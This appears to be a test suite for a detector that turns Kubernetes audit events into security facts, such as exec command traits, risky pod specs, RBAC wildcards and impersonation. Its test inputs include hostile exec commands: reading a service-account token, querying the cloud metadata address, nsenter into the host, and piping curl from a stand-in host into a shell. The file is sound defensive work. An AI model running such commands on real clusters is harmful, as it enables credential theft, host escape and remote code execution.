import assert from 'node:assert/strict'
import { describe, it } from 'node:test'

import { kubeFacts } from './kube-facts.ts'
import { KubeMemory } from './kube-memory.ts'

const atMs = Date.parse('2026-11-22T12:00:00Z')
let count = 0

type Parts = Readonly<Record<string, unknown>>

/** An audit event at level Metadata; what a case is about is written over it. */
function event(parts: Parts = {}): Parts {
  count += 1
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    auditID: `id-${count}`,
    stage: 'ResponseComplete',
    requestURI: '/api/v1/namespaces/shop/pods',
    verb: 'list',
    user: { username: 'bob', groups: ['system:authenticated'] },
    sourceIPs: ['10.0.0.9'],
    objectRef: { resource: 'pods', namespace: 'shop', apiVersion: 'v1' },
    responseStatus: { code: 200 },
    requestReceivedTimestamp: `2026-11-22T12:00:00.${count}Z`,
    stageTimestamp: `2026-11-22T12:00:00.${count}Z`,
    ...parts,
  }
}

function facts(parts: Parts, memory = new KubeMemory(), now = atMs): Readonly<Record<string, string>> {
  const entries = [...kubeFacts(event(parts), memory, now).entries()]
  return Object.fromEntries(entries.map(([name, value]) => [name.slice('kube.'.length), value]))
}

const withPod = (spec: unknown, more: Parts = {}): Parts => ({
  verb: 'create',
  objectRef: { resource: 'pods', namespace: 'shop', name: 'p' },
  responseStatus: { code: 201 },
  requestObject: { kind: 'Pod', metadata: { name: 'p' }, spec },
  ...more,
})
const exec = (query: string, more: Parts = {}): Parts => ({
  verb: 'get',
  requestURI: `/api/v1/namespaces/shop/pods/p/exec?${query}`,
  objectRef: { resource: 'pods', namespace: 'shop', name: 'p', subresource: 'exec' },
  responseStatus: { code: 101 },
  ...more,
})

const requests: readonly { readonly is: string; readonly parts: Parts; readonly expected: Parts }[] = [
  {
    is: 'a read',
    parts: {},
    expected: { outcome: 'ok', done: 'list', scope: 'namespace', 'actor.kind': 'human' },
  },
  {
    is: 'switched protocols are a success',
    parts: exec('command=ls'),
    expected: { outcome: 'ok', done: 'connect' },
  },
  { is: '403', parts: { responseStatus: { code: 403 } }, expected: { outcome: 'denied', done: undefined } },
  { is: '404', parts: { responseStatus: { code: 404 } }, expected: { outcome: 'error', done: undefined } },
  {
    is: '401 has no user',
    parts: { user: {}, responseStatus: { code: 401 } },
    expected: { outcome: 'denied', 'actor.kind': 'none' },
  },
  {
    is: 'a request that is not answered yet',
    parts: { stage: 'RequestReceived', responseStatus: undefined },
    expected: { outcome: 'received', report: 'received' },
  },
  {
    is: 'a dry run changed nothing',
    parts: withPod({}, { requestURI: '/api/v1/namespaces/shop/pods?dryRun=All' }),
    expected: { outcome: 'ok', dry_run: 'true', done: undefined },
  },
  {
    is: 'a generated name',
    parts: { verb: 'create', responseObject: { kind: 'Pod', metadata: { name: 'web-x7' } } },
    expected: { name: 'web-x7', object: 'shop/pods/web-x7' },
  },
  {
    is: 'only the last address is that of the connection',
    parts: { sourceIPs: ['127.0.0.1', '10.0.0.1', '203.0.113.9'] },
    expected: { source_ip: '203.0.113.9', source_scope: 'public', forwarded_for: '127.0.0.1 10.0.0.1' },
  },
  {
    is: 'IPv6 of a private network',
    parts: { sourceIPs: ['fd00::1'] },
    expected: { source_scope: 'private' },
  },
  {
    is: 'a controller',
    parts: { user: { username: 'system:serviceaccount:kube-system:replicaset-controller' } },
    expected: { 'actor.kind': 'controller' },
  },
  {
    is: 'an account of that name elsewhere is none',
    parts: { user: { username: 'system:serviceaccount:shop:replicaset-controller' } },
    expected: { 'actor.kind': 'serviceaccount', 'actor.namespace': 'shop' },
  },
  {
    is: 'a name like that of a controller makes none',
    parts: { user: { username: 'system:serviceaccount:kube-system:evil-controller' } },
    expected: { 'actor.kind': 'serviceaccount' },
  },
  {
    is: 'the administrator of k3s and OpenShift is a person',
    parts: { user: { username: 'system:admin', groups: ['system:masters'] } },
    expected: { 'actor.kind': 'human' },
  },
  {
    is: 'the control plane of EKS',
    parts: { user: { username: 'eks:node-manager' } },
    expected: { 'actor.kind': 'system' },
  },
  {
    is: 'a node that uses curl',
    parts: { user: { username: 'system:node:worker-1' }, userAgent: 'curl/8.5.0' },
    expected: { 'actor.kind': 'node', 'actor.by_hand': 'true' },
  },
  {
    is: 'a kubelet',
    parts: { user: { username: 'system:node:worker-1' }, userAgent: 'kubelet/v1.34.1' },
    expected: { 'actor.by_hand': undefined },
  },
  {
    is: 'the role that allowed it',
    parts: {
      annotations: {
        'authorization.k8s.io/reason':
          'RBAC: allowed by RoleBinding "team/shop" of ClusterRole "edit" to Group "dev"',
      },
    },
    expected: { 'actor.role': 'edit' },
  },
  {
    is: 'releases of Helm by their label',
    parts: {
      requestURI: '/api/v1/secrets?labelSelector=name%3Dweb%2Cowner%3Dhelm',
      objectRef: { resource: 'secrets' },
    },
    expected: { 'secret.is_helm': 'true' },
  },
  {
    is: 'everything but releases of Helm',
    parts: {
      requestURI: '/api/v1/secrets?labelSelector=owner%21%3Dhelm',
      objectRef: { resource: 'secrets' },
    },
    expected: { 'secret.is_helm': undefined },
  },
  {
    is: 'a path to the kubelet that climbs out of the metrics',
    parts: {
      verb: 'create',
      requestURI: '/api/v1/nodes/n/proxy/metrics/../run/a/b/c',
      objectRef: { resource: 'nodes', name: 'n', subresource: 'proxy' },
    },
    expected: { 'proxy.kind': 'runs' },
  },
  {
    is: 'a label that goes',
    parts: {
      verb: 'patch',
      objectRef: { resource: 'namespaces', name: 'shop' },
      requestObject: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': null } } },
    },
    expected: { 'namespace.enforce': 'removed' },
  },
  {
    is: 'who takes the identity of a controller is none',
    parts: { impersonatedUser: { username: 'system:serviceaccount:kube-system:job-controller' } },
    expected: { 'actor.kind': 'human', impersonator: 'bob' },
  },
  {
    is: 'members of system:masters',
    parts: { impersonatedUser: { username: 'x', groups: ['system:masters'] } },
    expected: { impersonated_masters: 'true', 'actor.name': 'x' },
  },
]

const commands: readonly { readonly query: string; readonly traits: string | undefined }[] = [
  { query: 'command=ls&command=%2F', traits: undefined },
  { query: 'command=%2Fbin%2Fbash&stdin=true&tty=true', traits: 'shell interactive' },
  { query: 'command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Ftoken', traits: 'shell credentials' },
  { query: 'command=curl&command=http://169.254.169.254/', traits: 'metadata' },
  { query: 'command=tar&command=cf&command=-&command=/data', traits: 'copy-out' },
  { query: 'command=tar&command=-xmf&command=-', traits: 'copy-in' },
  { query: 'command=nsenter&command=-t&command=1', traits: 'host-escape' },
  { query: 'command=bash&command=-c&command=curl+x.example%7Csh', traits: 'shell download' },
  { query: 'command=%E0%A4%A&command=x', traits: undefined },
]

const c = (container: Parts): Parts => ({ containers: [{ name: 'c', image: 'i', ...container }] })
const mounted = (path: string, readOnly: boolean): Parts => ({
  volumes: [{ name: 'v', hostPath: { path } }],
  ...c({ volumeMounts: [{ name: 'v', mountPath: '/v', readOnly }] }),
})
const pods: readonly { readonly is: string; readonly spec: Parts; readonly risks: string | undefined }[] = [
  { is: 'nothing', spec: c({}), risks: undefined },
  { is: 'privileged', spec: c({ securityContext: { privileged: true } }), risks: 'privileged' },
  {
    is: 'privileged init container',
    spec: { initContainers: [{ securityContext: { privileged: true } }] },
    risks: 'privileged',
  },
  {
    is: 'privileged ephemeral container',
    spec: { ephemeralContainers: [{ securityContext: { privileged: true } }] },
    risks: 'privileged',
  },
  { is: 'a string is not true', spec: c({ securityContext: { privileged: 'true' } }), risks: undefined },
  {
    is: 'CAP_ prefix',
    spec: c({ securityContext: { capabilities: { add: ['CAP_SYS_ADMIN'] } } }),
    risks: 'capability',
  },
  {
    is: 'NET_BIND_SERVICE',
    spec: c({ securityContext: { capabilities: { add: ['NET_BIND_SERVICE'] } } }),
    risks: undefined,
  },
  { is: 'read-only log folder', spec: mounted('/var/log', true), risks: 'hostpath sensitive-hostpath' },
  {
    is: 'parent of a sensitive folder, writable',
    spec: mounted('/var//lib/.', false),
    risks: 'hostpath sensitive-hostpath writable-hostpath writable-sensitive-hostpath',
  },
  { is: 'path that climbs', spec: mounted('/mnt/../etc', true), risks: 'hostpath sensitive-hostpath' },
  { is: 'folder of no interest', spec: mounted('/mnt/data', true), risks: 'hostpath' },
  {
    is: 'runtime socket',
    spec: mounted('/run/containerd/containerd.sock', true),
    risks: 'hostpath sensitive-hostpath runtime-socket',
  },
  {
    is: 'three ways out',
    spec: { hostPID: true, hostNetwork: true, ...c({ securityContext: { privileged: true } }) },
    risks: 'host-pid host-network privileged breakout',
  },
  {
    is: 'a list where an object belongs',
    spec: { containers: { a: 1 }, volumes: 'x', securityContext: [] },
    risks: undefined,
  },
]

const privileged = c({ securityContext: { privileged: true } })
const templates: readonly (readonly [string, Parts])[] = [
  ['deployments', { spec: { template: { spec: privileged } } }],
  ['daemonsets', { spec: { template: { spec: privileged } } }],
  ['jobs', { spec: { template: { spec: privileged } } }],
  ['cronjobs', { spec: { jobTemplate: { spec: { template: { spec: privileged } } } } }],
]

describe('kubeFacts(): requests', () => {
  for (const { is, parts, expected } of requests) {
    it(is, () => {
      const found = facts(parts)
      for (const [name, value] of Object.entries(expected)) assert.equal(found[name], value, name)
    })
  }
  for (const value of [null, 7, 'x', [], {}]) {
    it(`anything may stand anywhere: ${JSON.stringify(value)}`, () => {
      for (const name of [
        'user',
        'objectRef',
        'responseStatus',
        'requestURI',
        'sourceIPs',
        'annotations',
        'requestObject',
        'impersonatedUser',
        'verb',
      ])
        assert.equal(typeof facts(withPod(c({}), { [name]: value }))['cluster'], 'string')
    })
  }
})

describe('kubeFacts(): names that every object of JavaScript has', () => {
  for (const name of Object.getOwnPropertyNames(Object.prototype))
    it(`${name} is a resource and a verb like any other that is not known`, () => {
      const told = (resource: string) =>
        JSON.stringify(facts({ verb: 'create', objectRef: { resource, name: 'n' } }))
      assert.equal(told(name), told('widgets').replaceAll('widgets', name))
      assert.equal(facts({ verb: name })['done'], 'other')
    })
})

describe('kubeFacts(): exec', () => {
  for (const { query, traits } of commands)
    it(`${query} has ${traits ?? 'no traits'}`, () => assert.equal(facts(exec(query))['exec.traits'], traits))

  it('the end of a session whose start was told is a repeat', () => {
    const memory = new KubeMemory()
    const same = { auditID: 'a', requestReceivedTimestamp: 't' }
    assert.equal(facts(exec('command=ls', { ...same, stage: 'ResponseStarted' }), memory)['report'], 'first')
    assert.equal(facts(exec('command=ls', same), memory)['report'], 'repeat')
  })
  it('another request under the same Audit-ID is no repeat and is told', () => {
    const memory = new KubeMemory()
    facts(exec('command=ls', { auditID: 'a' }), memory)
    const second = facts(exec('command=id', { auditID: 'a' }), memory)
    assert.deepEqual([second['report'], second['audit_id_reused']], ['first', 'true'])
  })
})

describe('kubeFacts(): pods', () => {
  for (const { is, spec, risks } of pods)
    it(`${is}: ${risks ?? 'no risks'}`, () => assert.equal(facts(withPod(spec))['pod.risks'], risks))
  for (const [resource, requestObject] of templates) {
    it(`the template of ${resource}`, () => {
      const objectRef = { resource, namespace: 'shop', name: 'w', apiGroup: 'apps' }
      assert.equal(facts({ verb: 'create', objectRef, requestObject })['pod.risks'], 'privileged')
    })
  }
  it('a JSON patch is an array of operations', () => {
    const requestObject = [
      { op: 'replace', path: '/spec/containers/0/securityContext', value: { privileged: true } },
    ]
    assert.equal(facts(withPod({}, { verb: 'patch', requestObject }))['pod.risks'], 'privileged')
  })
  it('the annotation of pod security admission counts where bodies are missing', () => {
    const violation =
      'would violate PodSecurity "restricted:latest": privileged (container "c" must not set securityContext.privileged=true)'
    const annotations = { 'pod-security.kubernetes.io/audit-violations': violation }
    assert.equal(facts(withPod({}, { requestObject: undefined, annotations }))['pod.risks'], 'privileged')
  })
  it('exec tells what is known of the pod, in its own cluster only', () => {
    const memory = new KubeMemory()
    facts(withPod(privileged, { kube: { cluster: 'one' } }), memory)
    const inOne = facts(exec('command=ls', { kube: { cluster: 'one' } }), memory)
    assert.deepEqual([inOne['target.risks'], inOne['target.is_own']], ['privileged', 'true'])
    assert.equal(facts(exec('command=ls', { kube: { cluster: 'two' } }), memory)['target.risks'], undefined)
  })
  it('the pods a controller makes for a workload are known after the first', () => {
    const memory = new KubeMemory()
    const user = { username: 'system:serviceaccount:kube-system:daemon-set-controller' }
    const made = (name: string) => ({
      ...withPod({}, { user }),
      objectRef: { resource: 'pods', namespace: 'shop', name },
      requestObject: {
        kind: 'Pod',
        metadata: { name, ownerReferences: [{ kind: 'DaemonSet', name: 'agent', controller: true }] },
        spec: privileged,
      },
    })
    assert.deepEqual(
      [facts(made('a'), memory)['pod.news'], facts(made('b'), memory)['pod.news']],
      ['new', 'known'],
    )
  })
})

const bind = (kind: string, name: string, role: string, more: Parts = {}): Parts => ({
  verb: 'create',
  objectRef: { resource: 'clusterrolebindings', name: 'b' },
  requestObject: { subjects: [{ kind, name }], roleRef: { name: role } },
  ...more,
})
const role = (rules: readonly Parts[]) =>
  facts({ verb: 'create', objectRef: { resource: 'clusterroles', name: 'r' }, requestObject: { rules } })

describe('kubeFacts(): rights', () => {
  it('a verb and a resource count only in one rule', () => {
    const found = role([
      { apiGroups: [''], resources: ['secrets'], verbs: ['create'] },
      { apiGroups: [''], resources: ['pods'], verbs: ['get'] },
    ])
    assert.equal(found['rbac.sensitive'], undefined)
  })
  it('wildcards in one rule are everything', () =>
    assert.equal(
      role([{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }])['rbac.wildcards'],
      'all groups resources verbs',
    ))
  it('wildcards in two rules are not', () =>
    assert.equal(
      role([
        { resources: ['*'], verbs: ['get'] },
        { resources: ['pods'], verbs: ['*'] },
      ])['rbac.wildcards'],
      'resources verbs',
    ))
  it('everyone', () =>
    assert.equal(
      facts(bind('Group', 'system:unauthenticated', 'view'))['rbac.everyone'],
      'Group:system:unauthenticated',
    ))
  it('what was granted is used, within half an hour', () => {
    const memory = new KubeMemory()
    facts(bind('User', 'eve', 'cluster-admin'), memory)
    const user = { username: 'eve' }
    assert.equal(facts({ user }, memory, atMs + 60_000)['actor.granted'], 'cluster-admin')
    assert.equal(facts({ user }, memory, atMs + 31 * 60_000)['actor.granted'], undefined)
  })
  it('a refused grant is none', () => {
    const memory = new KubeMemory()
    facts(bind('User', 'eve', 'cluster-admin', { responseStatus: { code: 403 } }), memory)
    assert.equal(facts({ user: { username: 'eve' } }, memory)['actor.granted'], undefined)
  })
})

describe('kubeFacts(): cost', () => {
  it('hostile sizes take no more than a moment', () => {
    const long = 'curl '.repeat(40_000)
    const containers = Array.from({ length: 5_000 }, (_, at) => ({
      name: `c${at}`,
      image: 'i',
      args: ['curl ', 'x'.repeat(50)],
    }))
    // Processor time: others may have most of the machine.
    const before = process.cpuUsage()
    facts(exec(`command=${'a%20'.repeat(50_000)}`))
    facts(exec(`command=${encodeURIComponent(long)}`))
    facts(withPod({ containers }))
    facts(
      withPod(
        {},
        {
          annotations: { 'pod-security.kubernetes.io/audit-violations': 'must not include '.repeat(20_000) },
        },
      ),
    )
    assert.ok(process.cpuUsage(before).user / 1_000 < 5_000)
  })
})
